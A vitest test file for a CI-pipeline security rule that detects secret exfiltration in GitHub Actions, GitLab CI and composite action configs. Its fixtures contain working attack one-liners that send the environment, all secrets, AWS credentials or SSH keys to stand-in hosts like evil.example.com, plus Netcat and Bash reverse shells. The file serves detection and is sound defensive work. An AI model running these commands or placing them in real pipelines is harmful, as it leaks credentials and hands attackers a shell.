import { describe, expect, it } from "vitest";
import { secretExfiltrationPattern } from "../../../worker/engine/rules/github/secret-exfiltration-pattern.ts";
import { findingsOf, placesOf } from "../../support/engine.ts";

const job = (text: string) =>
  `on: push\nenv:\n  TOKEN: \${{ secrets.TOKEN }}\n  ALL: \${{ toJSON(secrets) }}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n${text}`;
const run = (...lines: string[]) => job(`      - run: |\n${lines.map((line) => `          ${line}\n`).join("")}`);
const HOST = "https://api.example.com";
const gitlab = (line: string) => ({ ".gitlab-ci.yml": `a:\n  script:\n    - ${line}\n` });

describe("secret-exfiltration-pattern stays silent", () => {
  it.each([
    ["a header", run(`curl -H "Authorization: Bearer $TOKEN" ${HOST}/builds`)],
    ["a header with an encoded secret", run(`curl -H "Authorization: Basic $(echo -n "u:$TOKEN" | base64)" ${HOST}`)],
    [
      "a header to a bare address",
      run('curl -H "Authorization: Bearer ${{ secrets.TOKEN }}" http://203.0.113.5/deploy'),
    ],
    ["a user and password", run(`curl -u "me:\${{ secrets.TOKEN }}" -d @body.json ${HOST}`)],
    ["a field of a form", run(`curl -d "client_secret=$TOKEN" ${HOST}/token`)],
    ["a field of a JSON body", run(`curl -d '{"token":"\${{ secrets.TOKEN }}"}' ${HOST}/token`)],
    ["a query of an ordinary host", run(`curl "${HOST}/deploy?key=\${{ secrets.KEY }}"`)],
    ["an address that is a secret", run(`curl -X POST -d '{"text":"done"}' "\${{ secrets.SLACK_URL }}"`)],
    ["a secret in the path of a chat", run('curl "https://api.telegram.org/bot$TOKEN/sendMessage" -d text=done')],
    ["a host in a variable", run('curl -d "$TOKEN" "$SERVER"')],
    ["an upload of a report", run(`curl -F "file=@coverage.xml" -F "token=$TOKEN" ${HOST}`)],
    ["a body without secrets", run(`echo "$MESSAGE" | curl -d @- ${HOST}`)],
    ["a body that jq writes", run(`jq -n --arg t "$TOKEN" '{t: $t}' | curl -d @- ${HOST}`)],
    ["a text with a secret", run(`echo "{\\"t\\": \\"$TOKEN\\"}" | curl -d @- ${HOST}`)],
    ["a decoded file", run('echo "$TOKEN" | base64 -d > key.json', `curl ${HOST}`)],
    ["a part of the environment", run(`env | grep ^CI_ | curl -d @- ${HOST}`)],
    ["one variable", run(`printenv HOME | curl -d @- ${HOST}`)],
    ["the environment for later steps", run('env > "$GITHUB_ENV"', `curl -d @body.json ${HOST}`)],
    ["a file with the environment that stays", run("env > env.txt", `curl -T build.log ${HOST}`)],
    ["a file with one secret", run('echo "$TOKEN" > key.json', `curl -F "key=@key.json" ${HOST}`)],
    ["the environment in the log", run("env | sort", `curl ${HOST}`)],
    ["a program behind env", run(`env A=b make | curl -d @- ${HOST}`)],
    ["options of the shell", run("set -e", `curl ${HOST}`)],
    ["the own machine", run("env | curl -d @- http://localhost:8080", "env | nc 127.0.0.1 9")],
    ["a private network", run("env | curl -d @- http://10.0.0.5/", 'curl "http://192.168.1.4/?t=$TOKEN"')],
    ["a service container", run('curl -d "$TOKEN" http://vault:8200/v1/x')],
    ["a port that is looked at", run("nc -z 203.0.113.5 22", "nc -vz -w 5 203.0.113.5 443")],
    ["a port that is listened on", run("nc -l 8080", "nc -lk -p 8080")],
    ["Netcat to a name", run("echo stats | nc graphite.example.com 2003")],
    [
      "a port that Bash looks at",
      run("timeout 1 bash -c '</dev/tcp/203.0.113.5/22'", "echo > /dev/tcp/203.0.113.5/22"),
    ],
    ["a request to a catcher without secrets", run("curl -d done https://webhook.site/x")],
    ["a download from a bare address", run("wget http://203.0.113.5/x.tar.gz")],
    ["a secret for another command", run('deploy --token "$TOKEN" && curl https://webhook.site/x')],
    ["text that is printed", run("echo 'env | curl -d @- https://evil.example.com'")],
    ["a comment", run("# env | nc 203.0.113.5 80", "make")],
    ["a file that is no credential", run(`curl -T build.log ${HOST}`)],
    ["GitLab's token in a header", gitlab('curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://gitlab.example.com/api')],
    ["GitLab's token in a form", gitlab('curl -F "token=$CI_JOB_TOKEN" -F ref=main https://gitlab.example.com/api')],
    ["a Dockerfile", { Dockerfile: "FROM x\nRUN env | curl -d @- https://evil.example.com\n" }],
    ["another shell", job("      - shell: pwsh\n        run: env | curl -d @- https://evil.example.com\n")],
    ["null values", "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run:\n      - \n"],
  ])("on %s", (_, text) => {
    expect(placesOf(secretExfiltrationPattern, text)).toEqual([]);
  });
});

describe("secret-exfiltration-pattern reports", () => {
  it.each([
    ["the environment", run("env | curl -d @- https://evil.example.com"), ["10:17 medium"]],
    [
      "the environment, encoded",
      run("printenv | base64 -w0 | curl -X POST --data-binary @- https://evil.example.com"),
      ["10:35 medium"],
    ],
    ["the environment in a body", run('curl -d "$(env | base64)" https://evil.example.com'), ["10:11 medium"]],
    ["the environment in the address", run('curl "https://evil.example.com/?e=$(env | base64 -w0)"'), ["10:11 medium"]],
    ["the environment by Netcat", run("env | nc evil.example.com 4444"), ["10:17 medium"]],
    ["the process's environment", run("curl -d @/proc/self/environ https://evil.example.com"), ["10:11 medium"]],
    ["Wget", run('wget --post-data="$(env)" https://evil.example.com'), ["10:11 medium"]],
    ["all secrets", run("curl -d '${{ toJSON(secrets) }}' https://evil.example.com"), ["10:11 medium"]],
    ["all secrets in a variable", run('echo "$ALL" | curl -d @- https://evil.example.com'), ["10:25 medium"]],
    ["a secret as the body", run('curl -X POST -d "${{ secrets.TOKEN }}" https://evil.example.com'), ["10:11 medium"]],
    ["a secret as the input", run('echo "$TOKEN" | curl -d @- https://evil.example.com'), ["10:27 medium"]],
    [
      "an encoded secret",
      run('echo "${{ secrets.TOKEN }}" | base64 | base64 | curl -d @- https://evil.example.com'),
      ["10:59 medium"],
    ],
    [
      "an encoded secret in the address",
      run('curl "https://evil.example.com/$(echo $TOKEN | base64)"'),
      ["10:11 medium"],
    ],
    ["a bare address", run('curl "http://203.0.113.5/?t=$TOKEN"'), ["10:11 medium"]],
    ["a request catcher", run('curl "https://webhook.site/1234?t=${{ secrets.TOKEN }}"'), ["10:11 medium"]],
    ["a catcher's subdomain", run('curl -d "t=$TOKEN" https://abc.ngrok.io'), ["10:11 medium"]],
    ["a file of credentials", run("curl -T ~/.aws/credentials https://evil.example.com"), ["10:11 medium"]],
    ["a key by Netcat", run("cat ~/.ssh/id_rsa | nc evil.example.com 4444"), ["10:31 medium"]],
    ["Netcat to a bare address", run("nc 203.0.113.5 4444"), ["10:11 medium"]],
    ["a shell by Netcat", run("nc -e /bin/bash evil.example.com 4444"), ["10:11 medium"]],
    [
      "a shell through a pipe",
      run("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.75 32032 >/tmp/f"),
      ["10:65 medium"],
    ],
    [
      "a file with all secrets",
      run('echo "${{ toJSON(secrets) }}" > .x', "curl --data @.x https://evil.example.com"),
      ["11:11 medium"],
    ],
    [
      "a file with the environment",
      run("env | sort > e.txt", "curl -F 'f=@e.txt' https://evil.example.com"),
      ["11:11 medium"],
    ],
    ["a file that Netcat reads", run("printenv > e", "nc evil.example.com 9 < e"), ["11:11 medium"]],
    ["the environment to a variable's host", run('env | curl -d @- "$COLLECTOR"'), ["10:17 medium"]],
    ["a shell by Bash", run("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"), ["10:11 medium"]],
    [
      "the step's own variable",
      job('      - run: curl -d "$KEY" https://evil.example.com\n        env:\n          KEY: ${{ secrets.KEY }}\n'),
      ["9:14 medium"],
    ],
    ["a quoted line", job("      - run: 'env | curl -d @- https://evil.example.com'\n"), ["9:21 medium"]],
    ["CRLF", run("env | curl -d @- https://evil.example.com").replaceAll("\n", "\r\n"), ["10:17 medium"]],
    [
      "several commands of a script once",
      run("env | nc evil.example.com 1", "env | nc evil.example.com 2"),
      ["10:17 medium"],
    ],
    ["GitLab", gitlab("env | curl -d @- https://evil.example.com"), [".gitlab-ci.yml:3:13 medium"]],
    ["GitLab's token", gitlab('curl -d "$CI_JOB_TOKEN" https://evil.example.com'), [".gitlab-ci.yml:3:7 medium"]],
    [
      "a composite action",
      {
        "action.yml":
          "runs:\n  using: composite\n  steps:\n    - run: env | nc evil.example.com 1\n      shell: bash\n",
      },
      ["action.yml:4:18 medium"],
    ],
  ])("%s", (_, text, places) => {
    expect(placesOf(secretExfiltrationPattern, text)).toEqual(places);
  });

  it("what goes where", () => {
    const [finding] = findingsOf(secretExfiltrationPattern, run("env | curl -d @- https://evil.example.com"));
    expect(finding?.message).toContain("The whole environment goes to `evil.example.com`");
  });
});
